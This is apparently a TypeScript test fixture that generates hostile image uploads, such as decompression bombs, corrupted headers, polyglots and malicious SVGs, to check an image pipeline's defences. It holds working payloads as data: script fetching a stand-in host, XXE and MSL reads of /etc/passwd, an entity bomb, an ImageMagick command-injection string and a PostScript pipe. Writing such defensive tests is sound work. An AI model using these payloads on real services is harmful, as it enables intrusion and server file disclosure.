import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { photograph } from './photographs.ts';

/**
 * A file that somebody might send to break the shop. `must`: that it is refused, or kept without its harm; for damaged data either
 * is right.
 */
export type HostileFile = { name: string; bytes: Uint8Array; must: 'refuse' | 'keep' | 'either' };

/** No kept picture may have this text. */
export const CANARY = 'CANARY-0d9f';

const SCRIPT = `<script>fetch('//evil.example/${CANARY}')</script>`;

/** More than two hundred files. Damaged ones follow from `seed`. */
export async function hostilePictures(seed = 1): Promise<HostileFile[]> {
	const samples = await makeSamples();
	return [
		...(await bombs()),
		...headerLies(samples),
		...oddShapes(),
		...truncated(samples),
		...flipped(samples, seed),
		...(await polyglots(samples)),
		...(await drawings()),
		...(await oddColours()),
		...(await animations()),
		...otherFormats(),
		...(await oddMetadata(samples)),
	];
}

type Samples = Record<'jpeg' | 'progressive' | 'png' | 'webp' | 'avif', Buffer>;

async function makeSamples(): Promise<Samples> {
	const image = () => photograph(640, 800);
	const [jpeg, progressive, png, webp, avif] = await Promise.all([
		image().jpeg().toBuffer(),
		image().jpeg({ progressive: true }).toBuffer(),
		image().png().toBuffer(),
		image().webp().toBuffer(),
		image().avif({ effort: 0 }).toBuffer(),
	]);
	return { jpeg, progressive, png, webp, avif };
}

const flat = (width: number, height: number, channels: 3 | 4 = 3) =>
	sharp({ create: { width, height, channels, background: '#777777' }, limitInputPixels: false });

/** For a picture of one colour, which any compression makes small. */
const QUICK = { compressionLevel: 1 };

/** Few bytes that decode to many. */
async function bombs(): Promise<HostileFile[]> {
	const heavy = async (name: string, image: Sharp, must: HostileFile['must']) => ({
		name: `bomb ${name}`,
		bytes: await image.toBuffer(),
		must,
	});
	return [
		...[20_000, 40_000, 65_535, 100_000, 2_000_000].map(
			(side): HostileFile => ({ name: `bomb ${side}×${side}.png`, bytes: png(side, side), must: 'refuse' }),
		),
		// As large as is allowed: kept within the memory, or refused.
		await heavy('8900×8900.jpg', flat(8900, 8900).jpeg(), 'keep'),
		await heavy('8900×8900.png', flat(8900, 8900).png(QUICK), 'keep'),
		await heavy('8900×8900 with alpha.png', flat(8900, 8900, 4).png(QUICK), 'keep'),
		await heavy(
			'8900×8900 of orientation 6.png',
			flat(8900, 8900).withMetadata({ orientation: 6 }).png(QUICK),
			'keep',
		),
		await heavy('9000×9000.jpg', flat(9000, 9000).jpeg(), 'refuse'),
		// Decoders that hold a whole picture get less: each of these is near what they may, or a little above it.
		await heavy('7900×7900 progressive.jpg', flat(7900, 7900).jpeg({ progressive: true }), 'refuse'),
		await heavy('7600×7600 progressive.jpg', flat(7600, 7600).jpeg({ progressive: true }), 'keep'),
		await heavy(
			'5400×5400 progressive 4:4:4.jpg',
			flat(5400, 5400).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }),
			'keep',
		),
		await heavy('7900×7900 interlaced.png', flat(7900, 7900).png({ ...QUICK, progressive: true }), 'refuse'),
		await heavy('7700×7700 interlaced.png', flat(7700, 7700).png({ ...QUICK, progressive: true }), 'keep'),
		await heavy(
			'4700×4700 interlaced with 16 bits.png',
			flat(4700, 4700, 4)
				.toColourspace('rgb16')
				.png({ ...QUICK, progressive: true }),
			'keep',
		),
		await heavy('12500×4900.webp', flat(12_500, 4900).webp({ effort: 0 }), 'refuse'),
		await heavy('12000×4900.webp', flat(12_000, 4900).webp({ effort: 0 }), 'keep'),
		await heavy('3600×3600.avif', flat(3600, 3600).avif({ effort: 0 }), 'refuse'),
		await heavy('3100×3100.avif', flat(3100, 3100).avif({ effort: 0 }), 'keep'),
		await heavy('2700×2700 with 12 bits.avif', flat(2700, 2700).avif({ effort: 0, bitdepth: 12 }), 'keep'),
	];
}

/** The header promises another size than the data have. */
function headerLies({ jpeg, png: plain }: Samples): HostileFile[] {
	const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
	const sizes = [
		[0, 0],
		[1, 1],
		[0, 800],
		[65_535, 65_535],
		[8900, 8900],
		[640, 65_500],
		[640, 1600],
	] as const;
	const jpegs = sizes.map(([width, height]): HostileFile => {
		const bytes = Buffer.from(jpeg);
		bytes.writeUInt16BE(height, frame + 5);
		bytes.writeUInt16BE(width, frame + 7);
		const must = Math.min(width, height) < 2 || width * height > 80_000_000 ? 'refuse' : 'either';
		return { name: `header says ${width}×${height}.jpg`, bytes, must };
	});
	const pngs = sizes.map(([width, height]): HostileFile => {
		const bytes = Buffer.from(plain);
		bytes.writeUInt32BE(width, 16);
		bytes.writeUInt32BE(height, 20);
		bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
		const must = Math.min(width, height) < 2 || width * height > 80_000_000 ? 'refuse' : 'either';
		return { name: `header says ${width}×${height}.png`, bytes, must };
	});
	return [...jpegs, ...pngs];
}

function oddShapes(): HostileFile[] {
	const shapes = [
		[1, 60_000],
		[60_000, 1],
		[1, 1],
		[2, 2],
		[319, 319],
		[300, 60_000],
		[60_000, 300],
		[2400, 300],
	] as const;
	return shapes.map(([width, height]) => ({
		name: `${width}×${height}.png`,
		bytes: png(width, height, true),
		must: 'refuse' as const,
	}));
}

function truncated(samples: Samples): HostileFile[] {
	return Object.entries(samples).flatMap(([kind, whole]) =>
		[0.001, 0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99].map(
			(part): HostileFile => ({
				name: `${part * 100} % of a ${kind}`,
				bytes: whole.subarray(0, Math.ceil(whole.length * part)),
				must: part > 0.9 ? 'either' : 'refuse',
			}),
		),
	);
}

/** Bytes anywhere are others. */
function flipped(samples: Samples, seed: number): HostileFile[] {
	let state = seed;
	const random = (below: number) => {
		state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
		return (state >> 8) % below;
	};
	return Object.entries(samples).flatMap(([kind, whole]) =>
		Array.from({ length: 12 }, (_, n): HostileFile => {
			const bytes = Buffer.from(whole);
			// Half of them near the beginning, where the headers are.
			const reach = n % 2 === 0 ? Math.min(400, bytes.length) : bytes.length;
			for (let times = 0; times <= n; times++) bytes[random(reach)] = random(256);
			return { name: `${n + 1} bytes changed in a ${kind}`, bytes, must: 'either' };
		}),
	);
}

/** A picture that is something else too. */
async function polyglots({ jpeg, png: plain, webp }: Samples): Promise<HostileFile[]> {
	const payloads = {
		'a page': `<html>${SCRIPT}</html>`,
		'a program': `#!/bin/sh\necho ${CANARY}\n`,
		'a PHP file': `<?php echo '${CANARY}'; ?>`,
		'an archive': `PK\u0003\u0004 ${CANARY}`,
		'a PDF': `%PDF-1.7 ${CANARY}`,
	};
	const behind = Object.entries(payloads).flatMap(([what, payload]) =>
		Object.entries({ jpeg, png: plain, webp }).map(
			([kind, bytes]): HostileFile => ({
				name: `${what} behind a ${kind}`,
				bytes: Buffer.concat([bytes, Buffer.from(payload)]),
				must: 'keep',
			}),
		),
	);
	const comment = Buffer.from(`/*${SCRIPT}*/`);
	const inComment = Buffer.concat([
		jpeg.subarray(0, 2),
		Buffer.from([0xff, 0xfe, 0, comment.length + 2]),
		comment,
		jpeg.subarray(2),
	]);
	const inText = Buffer.concat([
		plain.subarray(0, 33),
		chunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)),
		chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`)),
		plain.subarray(33),
	]);
	const withExif = await photograph(640, 800)
		.withExif({ IFD0: { Copyright: SCRIPT, Artist: `<?php ${CANARY} ?>` } })
		.jpeg()
		.toBuffer();
	return [
		...behind,
		{ name: 'a script in a comment.jpg', bytes: inComment, must: 'keep' },
		{ name: 'a script in a text.png', bytes: inText, must: 'keep' },
		{ name: 'a script in EXIF.jpg', bytes: withExif, must: 'keep' },
		{ name: 'a page before a JPEG', bytes: Buffer.concat([Buffer.from(SCRIPT), jpeg]), must: 'refuse' },
		{ name: 'GIF89a and a script', bytes: Buffer.from(`GIF89a/*${SCRIPT}*/=1`), must: 'refuse' },
	];
}

async function drawings(): Promise<HostileFile[]> {
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="alert('${CANARY}')">${SCRIPT}<rect width="9" height="9"/></svg>`;
	const variants: Record<string, string | Uint8Array> = {
		'with a script.svg': svg,
		'with a declaration.svg': `<?xml version="1.0"?>\n${svg}`,
		'after a mark.svg': `\ufeff${svg}`,
		'in UTF-16.svg': Buffer.from(`\ufeff${svg}`, 'utf16le'),
		'after a long comment.svg': `<!--${'x'.repeat(5000)}-->${svg}`,
		'compressed.svgz': gzipSync(svg),
		'with a file of the server.svg': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
		'with a picture of the server.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`,
		'that multiplies.svg': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">]><svg>&c;</svg>`,
		'of a billion units.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>',
	};
	return Object.entries(variants).map(([name, text]) => ({
		name,
		bytes: typeof text === 'string' ? Buffer.from(text) : text,
		must: 'refuse' as const,
	}));
}

/** Real pictures of unusual colour, which all become sRGB of eight bits. */
async function oddColours(): Promise<HostileFile[]> {
	const make = async (name: string, image: Sharp): Promise<HostileFile> => ({
		name,
		bytes: await image.toBuffer(),
		must: 'keep',
	});
	const image = () => photograph(500, 600);
	return Promise.all([
		make('cmyk.jpg', image().toColourspace('cmyk').jpeg()),
		make('cmyk with a profile.jpg', image().toColourspace('cmyk').withIccProfile('cmyk').jpeg()),
		make('wide colours.jpg', image().withIccProfile('p3').jpeg()),
		make('16 bits.png', image().toColourspace('rgb16').png()),
		make('16 bits with alpha.png', image().ensureAlpha(0.5).toColourspace('rgb16').png()),
		make('grey.jpg', image().toColourspace('b-w').jpeg()),
		make('16 bits of grey.png', image().toColourspace('grey16').png()),
		make('two colours.png', image().threshold(140).toColourspace('b-w').png({ palette: true, colours: 2 })),
		make('palette.png', image().png({ palette: true })),
		make('transparent.webp', image().ensureAlpha(0).webp()),
		make('12 bits.avif', image().toColourspace('rgb16').avif({ bitdepth: 12, effort: 0 })),
		make('lossless.webp', image().webp({ lossless: true, effort: 0 })),
	]);
}

async function animations(): Promise<HostileFile[]> {
	const frames = async (count: number) =>
		sharp(
			await Promise.all(
				Array.from({ length: count }, (_, n) =>
					photograph(400, 400, n + 1)
						.png()
						.toBuffer(),
				),
			),
			{ join: { animated: true } },
		);
	return [
		{ name: 'animated.webp', bytes: await (await frames(12)).webp({ effort: 0 }).toBuffer(), must: 'keep' },
		{ name: 'animated.gif', bytes: await (await frames(4)).gif({ effort: 1 }).toBuffer(), must: 'refuse' },
	];
}

function otherFormats(): HostileFile[] {
	const box = (brand: string) => Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\0\0${brand}mif1`, 'latin1');
	const files: Record<string, string | Uint8Array> = {
		'empty but for a byte': 'x',
		'text.jpg': 'no picture',
		'page.jpg': `<!doctype html>${SCRIPT}`,
		'archive.png': Buffer.from('PK\x03\x04 an archive', 'latin1'),
		'program.png': Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
		'program.jpg': Buffer.from('MZ\x90\0', 'latin1'),
		'document.pdf': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj',
		'postscript.eps': '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file',
		'magick.mvg': `push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.jpg"|ls'\npop graphic-context`,
		'magick.msl': '<image><read filename="/etc/passwd"/></image>',
		'bitmap.bmp': Buffer.from('BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'latin1'),
		'icon.ico': Buffer.from('\0\0\x01\0\x01\0\x10\x10', 'latin1'),
		'photoshop.psd': '8BPS\0\u0001',
		'jpeg 2000.jp2': Buffer.from('\0\0\0\x0cjP  \r\n\x87\n', 'latin1'),
		'jpeg xl.jxl': Buffer.from('\xff\x0a\0\0', 'latin1'),
		'tiff.tif': Buffer.from('II*\0\x08\0\0\0', 'latin1'),
		'bigtiff.tif': Buffer.from('II+\0\x08\0\0\0', 'latin1'),
		'film.mp4': box('isom'),
		'heic.heic': box('heic'),
		'heix.heic': box('heix'),
		'hevc.heic': box('hevc'),
		'mif1.heic': Buffer.from('\0\0\0\x18ftypmif1\0\0\0\0mif1heic', 'latin1'),
		'avif without data.avif': box('avif'),
		'jpeg of three bytes.jpg': Buffer.from([0xff, 0xd8, 0xff]),
		'png of a signature.png': Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
		'webp of a header.webp': Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8X', 'latin1'),
	};
	return Object.entries(files).map(([name, content]) => ({
		name,
		bytes: typeof content === 'string' ? Buffer.from(content) : content,
		must: 'refuse' as const,
	}));
}

/** Metadata that are a bomb, or make no sense. */
async function oddMetadata({ png: plain, jpeg }: Samples): Promise<HostileFile[]> {
	const zeros = deflateSync(Buffer.alloc(60_000_000));
	const withChunk = (...parts: Buffer[]) =>
		Buffer.concat([plain.subarray(0, 33), ...parts, plain.subarray(33)]);
	const profile = chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), zeros]));
	const orientations = [0, 9, 255].map((orientation): HostileFile => {
		const exif = Buffer.from('4578696600004d4d002a00000008000101120003000000010000000000000000', 'hex');
		exif.writeUInt16BE(orientation, 24);
		const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0, exif.length + 2]), exif]);
		const bytes = Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
		return { name: `orientation ${orientation}.jpg`, bytes, must: 'either' };
	});
	const many = Buffer.concat(Array.from({ length: 20_000 }, () => chunk('tEXt', Buffer.from('a\0b'))));
	const scans = await photograph(700, 700).jpeg({ progressive: true, quality: 100 }).toBuffer();
	const scan = scans.subarray(scans.lastIndexOf(Buffer.from([0xff, 0xda])), scans.length - 2);
	return [
		...orientations,
		{ name: 'a profile of 60 MB.png', bytes: withChunk(profile), must: 'either' },
		{
			name: 'a text of 60 MB.png',
			bytes: withChunk(chunk('zTXt', Buffer.concat([Buffer.from('x\0\0'), zeros]))),
			must: 'either',
		},
		{ name: '20 000 texts.png', bytes: withChunk(many), must: 'either' },
		{
			name: 'a scan 400 times over.jpg',
			bytes: Buffer.concat([
				scans.subarray(0, -2),
				...Array.from({ length: 400 }, () => scan),
				scans.subarray(-2),
			]),
			must: 'either',
		},
		{
			name: 'metadata of nothing.jpg',
			bytes: withSegment(jpeg, Buffer.from('Exif\0\0MM\0*\xff\xff\xff\xff', 'latin1')),
			must: 'either',
		},
		{
			name: 'a profile of nothing.jpg',
			bytes: withSegment(jpeg, Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), 0xe2),
			must: 'either',
		},
	];
}

function withSegment(jpeg: Buffer, content: Buffer, marker = 0xe1): Buffer {
	const head = Buffer.from([0xff, marker, 0, content.length + 2]);
	return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

/** A PNG of one colour, of that size. Its data end early unless it is `whole`. */
function png(width: number, height: number, whole = false): Buffer {
	const header = Buffer.alloc(13);
	header.writeUInt32BE(width, 0);
	header.writeUInt32BE(height, 4);
	header.set([8, 2, 0, 0, 0], 8);
	const data = whole ? Buffer.alloc((width * 3 + 1) * height) : Buffer.alloc(1000);
	return Buffer.concat([
		Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
		chunk('IHDR', header),
		chunk('IDAT', deflateSync(data)),
		chunk('IEND', Buffer.alloc(0)),
	]);
}

function chunk(type: string, data: Buffer): Buffer {
	const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
	const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
	length.writeUInt32BE(data.length);
	sum.writeUInt32BE(crc32(body));
	return Buffer.concat([length, body, sum]);
}
